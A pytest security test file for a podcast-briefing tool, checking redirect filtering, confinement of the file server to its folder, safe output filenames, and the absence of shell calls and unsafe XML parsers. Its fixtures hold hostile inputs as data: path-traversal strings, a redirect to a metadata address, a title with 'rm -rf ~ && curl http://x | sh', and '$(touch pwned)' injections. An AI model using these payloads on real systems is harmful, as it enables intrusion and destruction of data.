"""Hostile content: redirects re-checked, serve confined to its folder, nothing written outside
the output folder whatever the titles say, no shell, and no XML parser that expands entities."""

from __future__ import annotations

import ast
import http.client
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from conftest import REPO
from hardening.daily_setup import check_feed
from typer.testing import CliRunner

from briefing.cli import app
from briefing.config import FetchSettings
from briefing.fetch import FetchError, fetch
from briefing.publish.serve import make_server

PACKAGE = REPO / "briefing"
SECRET = b"TOP-SECRET-OUTSIDE"
SHELLS = {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"}


# ── redirects ────────────────────────────────────────────────────────────────────────────────
@pytest.fixture(scope="module")
def redirector() -> Iterator[str]:
    """/to/X answers 302 to X (URL-quoted); anything else serves a page."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            if self.path.startswith("/to/"):
                self.send_response(302)
                self.send_header("Location", unquote(self.path.removeprefix("/to/")))
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            body = b"<html><body><p>fine</p></body></html>"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize(
    "target", ["file:///etc/passwd", "ftp://127.0.0.1/x", "gopher://127.0.0.1:70/", "data:,hi"]
)
def test_a_redirect_to_another_scheme_is_refused(redirector: str, target: str) -> None:
    settings = FetchSettings(allow_private=True, timeout=5)
    refused = r"only http:// and https:// URLs can be fetched|redirects to one"  # data: httpx's
    with pytest.raises(FetchError, match=refused):
        fetch(f"{redirector}/to/{quote(target, safe='')}", settings)


def test_a_redirect_from_a_public_host_to_a_private_one_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The re-check on every hop. No internet here: `news.example` resolves (for the check) to
    a public address, and httpx's mock transport stands in for its server."""
    import httpx

    real = socket.getaddrinfo

    def resolve(host: str, *args: object, **kwargs: object) -> object:
        if host == "news.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", 80))]
        return real(host, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr("briefing.fetch.client.socket.getaddrinfo", resolve)
    hops: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        hops.append(str(request.url))
        return httpx.Response(302, headers={"Location": "http://169.254.169.254/latest/"})

    client = httpx.Client(transport=httpx.MockTransport(handler), follow_redirects=False)
    with pytest.raises(FetchError, match=r"169\.254\.169\.254 is a private, loopback or link-l"):
        fetch("http://news.example/story", FetchSettings(), client=client)
    assert hops == ["http://news.example/story"]  # the metadata address was never asked


# ── serve ────────────────────────────────────────────────────────────────────────────────────
@pytest.fixture()
def served(tmp_path: Path) -> Iterator[tuple[Path, int]]:
    folder = tmp_path / "podcast"
    (folder / "episodes").mkdir(parents=True)
    (folder / "feed.xml").write_text("<rss/>", encoding="utf-8")
    (folder / "episodes" / ".briefing-x.mp3.abc.part").write_bytes(b"half an episode")
    (tmp_path / "secret.txt").write_bytes(SECRET)
    (folder / "episodes" / "out.mp3").symlink_to(tmp_path / "secret.txt")
    (folder / "episodes" / "up").symlink_to(tmp_path)
    server = make_server(folder, "127.0.0.1", 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield folder, server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


def _get(port: int, path: str) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    connection.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
    connection.putheader("Host", "127.0.0.1")
    connection.endheaders()
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response.status, body


@pytest.mark.parametrize(
    "path",
    [
        "/../secret.txt", "/episodes/../../secret.txt", "/%2e%2e/secret.txt",
        "/%2E%2E%2Fsecret.txt", "/..%5csecret.txt", "/episodes\\..\\..\\secret.txt",
        "/episodes/out.mp3", "/episodes/up/secret.txt", "/episodes/.briefing-x.mp3.abc.part",
        "//..//..//secret.txt", "/%00/../secret.txt", "/feed.xml%00.mp3",
        "/" + "../" * 40 + "etc/passwd", "http://127.0.0.1/../secret.txt",
    ],
)  # fmt: skip
def test_serve_gives_nothing_outside_its_folder(served: tuple[Path, int], path: str) -> None:
    folder, port = served
    status, body = _get(port, path)
    assert status in {400, 403, 404}, (status, body[:200])
    assert SECRET not in body and b"root:" not in body and b"half an episode" not in body
    assert _get(port, "/feed.xml") == (200, b"<rss/>")  # and it is still serving


# ── files written ────────────────────────────────────────────────────────────────────────────
HOSTILE_TITLES = (
    "../../../../tmp/owned",
    "..\\..\\windows\\system32",
    "/etc/cron.d/evil; rm -rf ~ && curl http://x | sh",
    "$(touch pwned) `touch pwned2` ${HOME}",
    "\u202eevil.mp3\u202c " + "long " * 100,
)


def test_nothing_is_written_outside_the_output_folder(tmp_path: Path, fake_voice: str) -> None:
    articles = tmp_path / "articles"
    articles.mkdir()
    story = (REPO / "examples" / "harbour-tidal-turbines.md").read_text(encoding="utf-8")
    body = story.split("\n", 1)[1]
    for index, title in enumerate(HOSTILE_TITLES):
        (articles / f"s{index}.md").write_text(f"# {title} {index}\n{body}", encoding="utf-8")
    home, out = tmp_path / "home", tmp_path / "out"
    config = tmp_path / "config.toml"
    config.write_text(
        f'minutes = 2\nvoice = "{fake_voice}"\noutput = "{out}"\n\n'
        f'[podcast]\nbase_url = "http://phone.test:8000/"\n\n'
        f'[[sources]]\nfolder = "{articles}"\n',
        encoding="utf-8",
    )
    before = {p for p in tmp_path.parent.rglob("*")}
    command = ["daily", "--config", str(config), "--date", "2026-11-25"]
    result = CliRunner().invoke(app, command, env={"BRIEFING_HOME": str(home)})
    assert result.exit_code == 0, result.output
    new = {p for p in tmp_path.parent.rglob("*")} - before
    assert new, "the run wrote nothing"
    outside = sorted(str(p) for p in new if out not in p.parents and home not in p.parents
                     and p not in {out, home})  # fmt: skip
    assert outside == []
    names = [p.name for p in out.rglob("*")]
    assert all(n.isascii() and "/" not in n and "\\" not in n and ".." not in n for n in names)
    assert not any(Path(p).exists() for p in ("/tmp/owned", "pwned", "pwned2"))
    assert check_feed(out)


# ── code ─────────────────────────────────────────────────────────────────────────────────────
def _calls(tree: ast.AST) -> Iterator[tuple[str, ast.Call]]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield ast.unparse(node.func), node


def _modules() -> Iterator[tuple[Path, ast.AST]]:
    for path in sorted(PACKAGE.rglob("*.py")):
        yield path, ast.parse(path.read_text(encoding="utf-8"), str(path))


def test_no_shell_command_is_ever_built() -> None:
    problems: list[str] = []
    runs = 0
    for path, tree in _modules():
        for name, call in _calls(tree):
            where = f"{path.relative_to(REPO)}:{call.lineno}"
            if name in SHELLS:
                problems.append(f"{where}: {name}")
            if any(k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value
                   is False) for k in call.keywords):  # fmt: skip
                problems.append(f"{where}: shell=")
            if name.startswith("subprocess.") and call.args:
                runs += 1
                if isinstance(call.args[0], ast.Constant | ast.JoinedStr | ast.BinOp):
                    problems.append(f"{where}: a command given as one string")
    assert problems == []
    assert runs >= 3  # espeak-ng and ffmpeg really are run (the scan sees them)


def test_xml_is_only_read_through_defused_parsers() -> None:
    """Reading XML with the standard library or lxml.etree would expand entities."""
    unsafe = ("ElementTree.parse", "ElementTree.fromstring", "ET.parse", "ET.fromstring",
              "ET.XML", "ET.iterparse", "etree.fromstring", "etree.parse", "etree.XML",
              "minidom.parse", "minidom.parseString", "sax.parse", "sax.parseString",
              "expatbuilder", "pulldom")  # fmt: skip
    found = [
        f"{path.relative_to(REPO)}:{call.lineno}: {name}"
        for path, tree in _modules()
        for name, call in _calls(tree)
        if any(name.endswith(u) for u in unsafe) and "defusedxml" not in name
    ]
    assert found == []
